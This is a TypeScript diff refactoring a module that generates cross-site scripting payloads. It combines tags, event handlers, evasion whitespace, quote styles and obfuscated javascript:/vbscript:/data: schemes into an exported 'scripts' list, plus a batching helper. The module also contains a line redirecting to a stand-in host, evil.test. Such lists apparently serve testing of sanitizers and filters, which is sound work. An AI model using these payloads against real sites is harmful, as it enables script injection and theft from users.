@@ -1,99 +1,45 @@
 const tags = [
-  ...[
-    'script',
-    'img src=x',
-    'svg',
-    'iframe',
-    'body',
-    'video src=x',
-    'audio src=x',
-    'object data=x',
-    'embed src=x',
-  ],
-  ...[
-    'details open',
-    'input autofocus',
-    'marquee',
-    'math',
-    'form',
-    'a href=#',
-    'link rel=stylesheet href=x',
-    'style',
-  ],
-  ...[
-    'template',
-    'textarea autofocus',
-    'select autofocus',
-    'table',
-    'button autofocus',
-    'animate',
-    'set',
-    'xss',
-    'image src=x',
-  ],
-  ...[
-    'video><source',
-    'picture><img src=x',
-    'svg><animate',
-    'math><mtext><img src=x',
-    'noscript><p title="</noscript><img src=x',
-  ],
+  'script',
+  'img src=x',
+  'svg',
+  'iframe',
+  'body',
+  'video src=x',
+  'audio src=x',
+  'object data=x',
+  'embed src=x',
+  'details open',
+  'input autofocus',
+  'marquee',
+  'math',
+  'form',
+  'a href=#',
+  'link rel=stylesheet href=x',
+  'style',
+  'template',
+  'textarea autofocus',
+  'select autofocus',
+  'table',
+  'button autofocus',
+  'animate',
+  'set',
+  'xss',
+  'image src=x',
+  'video><source',
+  'picture><img src=x',
+  'svg><animate',
+  'math><mtext><img src=x',
+  'noscript><p title="</noscript><img src=x',
 ];
-const events = [
-  ...[
-    'onload',
-    'onerror',
-    'onclick',
-    'onfocus',
-    'onblur',
-    'ontoggle',
-    'onmouseover',
-    'onmouseenter',
-    'onpointerenter',
-  ],
-  ...[
-    'onpointerover',
-    'onanimationstart',
-    'onanimationend',
-    'ontransitionend',
-    'onbegin',
-    'onend',
-    'onrepeat',
-    'onwheel',
-  ],
-  ...[
-    'onscroll',
-    'onresize',
-    'onpageshow',
-    'onhashchange',
-    'onmessage',
-    'onstart',
-    'onfinish',
-    'onloadstart',
-    'oncanplay',
-  ],
-  ...[
-    'onloadeddata',
-    'onplay',
-    'ontimeupdate',
-    'oninput',
-    'onchange',
-    'onsubmit',
-    'oninvalid',
-    'onsearch',
-    'onkeydown',
-  ],
-  ...[
-    'oncopy',
-    'onpaste',
-    'onauxclick',
-    'oncontextmenu',
-    'onbeforetoggle',
-    'oncontentvisibilityautostatechange',
-    'ONERROR',
-    'oNlOaD',
-  ],
-];
+const events = `
+  onload onerror onclick onfocus onblur ontoggle onmouseover onmouseenter onpointerenter onpointerover
+  onanimationstart onanimationend ontransitionend onbegin onend onrepeat onwheel onscroll onresize
+  onpageshow onhashchange onmessage onstart onfinish onloadstart oncanplay onloadeddata onplay
+  ontimeupdate oninput onchange onsubmit oninvalid onsearch onkeydown oncopy onpaste onauxclick
+  oncontextmenu onbeforetoggle oncontentvisibilityautostatechange ONERROR oNlOaD
+`
+  .trim()
+  .split(/\s+/);
 const gaps = [' ', '/', '\t', '\n', '\u000c', '/**/', '  ', ' x ', '\u00a0', ' / '];
 const quotes = ['', '"', "'", '`'];
 const closers = [
@@ -127,22 +73,18 @@ const codes = [
   "location='https://evil.test/'",
 ];
 const schemes = [
-  ...[
-    'javascript:',
-    'JaVaScRiPt:',
-    'java\tscript:',
-    'java\nscript:',
-    ' javascript:',
-    '\u0001javascript:',
-    'javascript&colon;',
-  ],
-  ...[
-    '&#106;avascript:',
-    'javascript:/*--></title></style></textarea></script>*/',
-    'javascript://%0a',
-    'vbscript:',
-    'data:text/html,',
-  ],
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  'java\nscript:',
+  ' javascript:',
+  '\u0001javascript:',
+  'javascript&colon;',
+  '&#106;avascript:',
+  'javascript:/*--></title></style></textarea></script>*/',
+  'javascript://%0a',
+  'vbscript:',
+  'data:text/html,',
 ];
 const places = [
   (url: string) => `<a href="${url}">x</a>`,
@@ -204,3 +146,8 @@ const addresses = schemes.flatMap((scheme, row) =>
 
 /** XSS payloads: known vectors, and generated ones. */
 export const scripts: string[] = [...new Set([...known, ...attributes, ...addresses])];
+
+export const scriptBatches = (size: number) =>
+  Array.from({ length: Math.ceil(scripts.length / size) }, (_, at) =>
+    scripts.slice(at * size, (at + 1) * size),
+  );
